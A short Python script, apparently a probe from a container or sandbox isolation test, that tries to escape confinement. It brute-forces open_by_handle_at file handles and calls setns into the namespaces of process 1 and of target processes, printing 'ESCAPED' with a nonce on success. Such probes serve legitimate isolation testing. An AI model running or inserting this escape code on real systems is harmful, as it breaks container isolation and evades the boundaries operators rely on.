"""Opens files by handle or through the namespaces of process 1."""
# sandbox only

import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
for number in range(2, 200):
    handle = struct.pack("IiQ", 8, 1, number)
    fd = libc.open_by_handle_at(3, handle, 0)
    if fd >= 0:
        print("ESCAPED" + TARGET["nonce"], fd)
for name in ("mnt", "net", "pid", "user"):
    for pid in (1, TARGET["victim"], TARGET["parent"]):
        try:
            if libc.setns(open(f"/proc/{pid}/ns/{name}").fileno(), 0) == 0:
                print("ESCAPED" + TARGET["nonce"], name)
        except OSError:
            pass
